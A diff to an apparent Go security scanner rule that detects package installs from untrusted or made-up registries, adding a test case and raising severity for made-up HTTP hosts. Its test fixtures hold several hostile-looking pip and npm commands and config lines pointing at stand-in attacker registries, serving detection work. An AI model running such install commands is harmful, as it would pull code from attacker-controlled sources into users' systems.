@@ -28,6 +28,7 @@ func foreignIndex() Rule {
 			{Text: "pip install --index-url http://203.0.113.9/simple openclaw-tools"},
 			{Text: "pip install -i http://pypi.evil.invalid/simple tool --trusted-host pypi.evil.invalid"},
 			{Text: "npm install --registry http://npm.evil.invalid tool"},
+			{Path: "a.sh", Text: "pip install --index-url http://1.2.3.4/simple mypkg"},
 			{Path: ".npmrc", Text: "registry=http://203.0.113.9:4873/\n"},
 			{Path: "requirements.txt", Text: "--extra-index-url https://pypi.evil.invalid/simple\ntool==1.0\n"},
 		},
@@ -50,7 +51,7 @@ func judgeIndex(s *Scene) []Hit {
 			continue
 		case anonymous(a):
 			h.Severity = Critical
-		case a.Class == host.Unknown && a.Scheme == "http":
+		case (a.Class == host.Unknown || a.Class == host.MadeUp) && a.Scheme == "http":
 			h.Severity = High
 		case a.Class != host.Unknown && a.Class != host.Cloud, related(s, a):
 			continue
@@ -114,7 +115,7 @@ func judgePackage(s *Scene) []Hit {
 				switch {
 				case anonymous(a):
 					h.Severity = Critical
-				case a.Class == host.Unknown && a.Scheme == "http":
+				case (a.Class == host.Unknown || a.Class == host.MadeUp) && a.Scheme == "http":
 					h.Severity = High
 				case a.Class != host.Unknown && a.Class != host.Cloud:
 					continue
